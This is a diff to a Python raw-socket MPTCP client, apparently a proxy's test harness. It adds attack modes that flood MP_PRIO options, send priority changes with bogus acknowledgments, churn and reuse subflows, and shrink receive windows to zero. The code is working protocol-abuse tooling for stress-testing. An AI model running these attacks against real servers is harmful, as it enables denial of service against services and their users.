@@ -7,8 +7,21 @@ it from each further address, and receives what the proxy sends. It begins the A
     fast-close   ten MP_FASTCLOSE per second with the proxy's key, far outside the window
     rejoin       it joins from the first address again and again, and has each subflow closed (FIN) half a second later
     crowd        it joins ten times more from the first address, and then from each further address, not earlier
+    crowd-late   it joins ten times more from the first address
+    alternate    500 MP_PRIO per second on the first subflow, with B=1 and B=0 in turn
+    regular      500 MP_PRIO per second on the first subflow, with B=0
+    guess        200 MP_PRIO per second on the first subflow, with B=1 and B=0 in turn, the right sequence number, and
+                 an acknowledgment that TCP does not take
+    reuse        it joins from the first address; again and again it makes that subflow a backup, resets it, and joins
+                 from the same port
+    churn        it joins from the first address; ten times per second it resets that subflow, and joins from another
+                 port
+    narrow       its further subflows have a receive window of 32 kB
+    close        their receive window is 0
+    silent       nothing
 
-IPv4 only. The kernel there must not reset what it knows nothing of: see `attack.prepare`.
+It sends a request at first, of which the proxy reads nothing, unless the attack is `silent`. IPv4 only. The kernel
+there must not reset what it knows nothing of: see `attack.prepare`.
 """
 
 from __future__ import annotations
@@ -36,12 +49,23 @@ _RETRY_SECONDS: Final = 0.2
 _SIGNAL_SECONDS: Final = 0.1
 _REJOIN_SECONDS: Final = 0.5
 _CROWD: Final = 10
+_PRIORITY_SECONDS: Final = 0.002
+_GUESS_SECONDS: Final = 0.005
+_CHURN_SECONDS: Final = 0.1
+_REUSE_SECONDS: Final = 0.2
+_NARROW_WINDOW: Final = 2**15 >> 7
 _MOST_SUBFLOWS: Final = 4  # of the attack `rejoin`; the kernel permits eight besides the first
 _WINDOW_SHIFT: Final = 7
 _WINDOW: Final = 0xFFFF  # 8 MB
 _BUFFER_BYTES: Final = 2**23
 _SO_RCVBUFFORCE: Final = 33  # include/uapi/asm-generic/socket.h
+_ATTACKS: Final = (
+    *("half-close", "fast-close", "rejoin", "crowd", "crowd-late", "alternate", "regular", "guess"),
+    *("reuse", "churn", "narrow", "close", "silent"),
+)
+_OWN_MARK: Final = 1  # `attack.prepare` has all resets dropped that have no mark
 _OUTSIDE: Final = 2**30
+_REQUEST: Final = b"GET "
 _MSS: Final = bytes((2, 4)) + (1460).to_bytes(2)
 _SCALE: Final = bytes((3, 3, _WINDOW_SHIFT))
 _TCP: Final = Struct("!HHIIBBHHH")
@@ -52,6 +76,7 @@ _IPV4_TOTAL_LENGTH: Final = slice(2, 4)
 _CAPABLE_V1: Final = 0x01
 _JOIN: Final = 0x10
 _DSS: Final = 0x20
+_PRIO: Final = 0x50
 _FASTCLOSE: Final = 0x70
 _HMAC_SHA256: Final = 0x01
 _DATA_ACK, _DATA_ACK_8, _MAPPING, _MAPPING_8, _DATA_FIN = 1, 2, 4, 8, 16
@@ -93,12 +118,15 @@ class _Intervals:
 class _Subflow:
     """A TCP connection from `address`; `first` is its initial sequence number, `next` the one to be sent."""
 
-    def __init__(self, address: str, proxy: str, port: int) -> None:
+    def __init__(self, address: str, proxy: str, port: int, own_port: int | None = None) -> None:
         self.address = address
+        self.own_port = own_port or random.randrange(20_000, 60_000)  # noqa: S311
+        self.window = _WINDOW
         self._ends = IPv4Address(address).packed, IPv4Address(proxy).packed
-        self._ports = random.randrange(20_000, 60_000), port  # noqa: S311
+        self._ports = self.own_port, port
         self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
         self._socket.setsockopt(socket.SOL_SOCKET, _SO_RCVBUFFORCE, _BUFFER_BYTES)
+        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, _OWN_MARK)
         self._socket.bind((address, 0))
         self._socket.connect((proxy, 0))
         self._socket.setblocking(False)
@@ -110,15 +138,29 @@ class _Subflow:
     def fileno(self) -> int:
         return self._socket.fileno()
 
-    def send(self, flags: int, *bodies: bytes, plain: bytes = b"", sequence: int | None = None) -> None:
-        """A segment without payload; `plain` are encoded options, `bodies` those of MPTCP options."""
+    def close(self) -> None:
+        self._socket.close()
+
+    def send(
+        self,
+        flags: int,
+        *bodies: bytes,
+        plain: bytes = b"",
+        payload: bytes = b"",
+        sequence: int | None = None,
+        behind: int = 0,
+    ) -> None:
+        """A segment; `plain` are encoded options, `bodies` those of MPTCP options. The `payload` has an even length.
+
+        It acknowledges what has arrived, but `behind` bytes.
+        """
         options = plain + b"".join(bytes((30, len(body) + 2)) + body for body in bodies)
         options += bytes([1]) * (-len(options) % 4)
         expected = self._proxys_first + 1 + self._arrived.next  # of a SYN, without ACK, it does not count
         words = ((_TCP.size + len(options)) // 4) << 4
         at = self.next if sequence is None else sequence
-        header = (*self._ports, at & _WORD, expected & _WORD, words, flags, _WINDOW, 0, 0)
-        segment = _TCP.pack(*header) + options
+        header = (*self._ports, at & _WORD, (expected - behind) & _WORD, words, flags, self.window, 0, 0)
+        segment = _TCP.pack(*header) + options + payload
         checksum = _checksum(_PSEUDO.pack(*self._ends, 0, socket.IPPROTO_TCP, len(segment)) + segment)
         self._socket.send(segment[:16] + checksum.to_bytes(2) + segment[18:])
 
@@ -158,7 +200,7 @@ class RawClient:
         self._key = random.randbytes(8)  # noqa: S311
         self._proxys_key = b""
         self._data = _Intervals()
-        self._data_acked = 0
+        self._sent = self._data_acked = 0
         self._subflows = [_Subflow(address, proxy, port)]
         self._ids = itertools.count(1)
         self._open()
@@ -173,9 +215,19 @@ class RawClient:
         while not self._data.next:
             self.receive(_RETRY_SECONDS)
 
-    def join(self, address: str) -> None:
+    def ask(self) -> None:
+        """Send a request, of which the proxy reads nothing."""
+        first = self._subflows[0]
+        sequence, first.next = first.next, (first.next + len(_REQUEST)) & _WORD
+        while first.acknowledged != first.next:
+            mapping = self._mapping(1, len(_REQUEST))
+            first.send(Flag.ACK, self._dss(mapping), payload=_REQUEST, sequence=sequence)
+            self.receive_for(_RETRY_SECONDS)
+        self._sent = len(_REQUEST)
+
+    def join(self, address: str, own_port: int | None = None) -> None:
         """Add a subflow."""
-        subflow, address_id = _Subflow(address, *self._proxy), next(self._ids) % 255 + 1
+        subflow, address_id = _Subflow(address, *self._proxy, own_port), next(self._ids) % 255 + 1
         nonce = random.randbytes(4)  # noqa: S311
         token = token_of(1, self._proxys_key)
         answer = self._exchange(subflow, bytes((_JOIN, address_id)) + token.to_bytes(4) + nonce)
@@ -217,20 +269,22 @@ class RawClient:
     def _first_data(key: bytes) -> int:
         return int.from_bytes(hashlib.sha256(key).digest()[-8:]) + 1
 
-    def _dss(self, *, fin: bool = False) -> bytes:
+    def _dss(self, mapping: bytes = b"", flags: int = 0) -> bytes:
         data_ack = (self._first_data(self._proxys_key) + self._data.next) & _LONG
-        flags = _DATA_ACK | _DATA_ACK_8
-        if not fin:
-            return bytes((_DSS, flags)) + data_ack.to_bytes(8)
-        flags |= _MAPPING | _MAPPING_8 | _DATA_FIN
-        # A DATA_FIN without data: subflow sequence 0, length 1 (RFC 8684, section 3.3.3).
-        mapping = (self._first_data(self._key) & _LONG).to_bytes(8) + bytes(4) + (1).to_bytes(2)
+        flags |= _DATA_ACK | _DATA_ACK_8 | (_MAPPING | _MAPPING_8 if mapping else 0)
         return bytes((_DSS, flags)) + data_ack.to_bytes(8) + mapping
+
+    def _mapping(self, subflow_sequence: int, length: int) -> bytes:
+        """Of what follows the data that the proxy has."""
+        data_sequence = (self._first_data(self._key) + self._sent) & _LONG
+        return data_sequence.to_bytes(8) + subflow_sequence.to_bytes(4) + length.to_bytes(2)
 
     def close_half(self) -> None:
         """Close this side: the connection's, and the first subflow's."""
-        while not self._data_acked:
-            self._subflows[0].send(Flag.ACK, self._dss(fin=True))
+        # A DATA_FIN without data: subflow sequence 0, length 1 (RFC 8684, section 3.3.3).
+        fin = self._dss(self._mapping(0, 1), _DATA_FIN)
+        while self._data_acked <= self._sent:
+            self._subflows[0].send(Flag.ACK, fin)
             self.receive_for(_RETRY_SECONDS)
         self._close(self._subflows[0])
 
@@ -247,6 +301,29 @@ class RawClient:
         self._close(self._subflows[-1])
         # What the oldest still receives is of no use: the proxy has sent it on other subflows, too.
         self._subflows[1:-_MOST_SUBFLOWS] = []
+
+    def replace(self, *, same_port: bool) -> None:
+        """Reset the last subflow, if there are more than those of the beginning, and join from the first address."""
+        last = self._subflows[-1]
+        own_port = None
+        if last.address == self._subflows[0].address:
+            if same_port:
+                last.send(Flag.ACK, bytes((_PRIO | True,)))
+            last.send(Flag.RST | Flag.ACK)
+            last.close()
+            self._subflows.pop()
+            own_port = last.own_port if same_port else None
+        self.join(self._subflows[0].address, own_port)
+
+    def set_priority(self, *, backup: bool, behind: int = 0) -> None:
+        """MP_PRIO on the first subflow."""
+        self._subflows[0].send(Flag.ACK, bytes((_PRIO | backup,)), behind=behind)
+
+    def narrow(self, window: int) -> None:
+        """From now on, all but the first subflow have this receive window, in units of its scale."""
+        for subflow in self._subflows[1:]:
+            subflow.window = window
+            subflow.send(Flag.ACK, self._dss())
 
     def fast_close(self) -> None:
         """MP_FASTCLOSE as the proxy's kernel ignores it."""
@@ -286,6 +363,8 @@ def main(attack: str, proxy: str, port: int, addresses: list[str]) -> None:
     signal.signal(signal.SIGUSR1, lambda *_: begin.append(True))
     first, *further = addresses
     client = RawClient(proxy, port, first)
+    if attack != "silent":
+        client.ask()
     for address in further if attack != "crowd" else ():
         client.join(address)
     print("receiving", flush=True)
@@ -293,20 +372,32 @@ def main(attack: str, proxy: str, port: int, addresses: list[str]) -> None:
         client.receive(_RETRY_SECONDS)
     if attack == "half-close":
         client.close_half()
-    if attack == "crowd":
-        for address in (*[first] * _CROWD, *further):
+    if attack in ("crowd", "crowd-late"):
+        for address in (*[first] * _CROWD, *(further if attack == "crowd" else ())):
             client.join(address)
             client.receive_for(_SIGNAL_SECONDS)
+    if attack in ("narrow", "close"):
+        client.narrow(_NARROW_WINDOW if attack == "narrow" else 0)
     print("attacking", flush=True)
-    while True:
+    for number in itertools.count():
         if attack == "fast-close":
             client.fast_close()
         if attack == "rejoin":
             client.rejoin()
-        client.receive_for(_SIGNAL_SECONDS)
+        if attack in ("alternate", "regular"):
+            client.set_priority(backup=attack == "alternate" and number % 2 == 0)
+            client.receive_for(_PRIORITY_SECONDS)
+        elif attack == "guess":
+            client.set_priority(backup=number % 2 == 0, behind=2**30)
+            client.receive_for(_GUESS_SECONDS)
+        elif attack in ("reuse", "churn"):
+            client.replace(same_port=attack == "reuse")
+            client.receive_for(_REUSE_SECONDS if attack == "reuse" else _CHURN_SECONDS)
+        else:
+            client.receive_for(_SIGNAL_SECONDS)
 
 
 if __name__ == "__main__":
     match sys.argv[1:]:
-        case ["half-close" | "fast-close" | "rejoin" | "crowd" as attack, proxy, port, *addresses]:
+        case [attack, proxy, port, *addresses] if attack in _ATTACKS:
             main(attack, proxy, int(port), addresses)
